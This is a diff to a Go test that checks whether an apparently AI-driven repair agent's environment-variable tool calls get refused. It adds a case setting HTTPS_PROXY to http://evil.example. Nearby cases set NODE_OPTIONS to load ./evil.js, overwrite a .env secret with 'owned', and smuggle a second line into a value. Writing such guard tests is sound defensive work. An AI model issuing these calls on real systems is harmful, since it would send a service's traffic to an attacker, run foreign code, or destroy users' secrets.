@@ -142,6 +142,10 @@ func TestAHostileModelOfARepair(t *testing.T) {
 			"sets a variable by which programs load code", "code in the service, of a file that it writes",
 			call{tool: "set_env", input: m{"name": "NODE_OPTIONS", "value": "--require ./evil.js"}}, refused,
 		},
+		{
+			"sets a variable by which a program trusts another host", "all that the service sends",
+			call{tool: "set_env", input: m{"name": "HTTPS_PROXY", "value": "http://evil.example"}}, refused,
+		},
 		{"replaces a value of .env", "the person's secret is lost", call{tool: "set_env", input: m{"name": "KEY", "value": "owned"}}, refused},
 		{
 			"sets a variable with a second line", "a variable that it may not set",
